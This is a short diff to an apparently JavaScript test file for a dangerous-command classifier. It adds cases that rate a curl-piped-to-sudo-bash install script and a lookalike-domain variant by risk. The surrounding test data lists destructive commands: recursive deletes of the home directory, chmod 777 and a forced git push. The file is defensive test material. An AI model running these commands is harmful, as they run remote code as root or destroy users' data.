@@ -69,6 +69,8 @@ describe('a dangerous command', () => {
     ['sudo rm -fr ~/', 'high'],
     ['rm -r --force "$DIR"/*', 'high'],
     ['curl -s https://x.y | sudo bash', 'high'],
+    ['curl -s https://fluxcd.io/install.sh | sudo bash', 'medium'],
+    ['curl -s https://fluxcd.io.example.org/install.sh | sudo bash', 'high'],
     ['chmod -R 777 .', 'medium'],
     ['chmod 777 -R .', 'medium'],
     ['git push origin main --force', 'medium'],
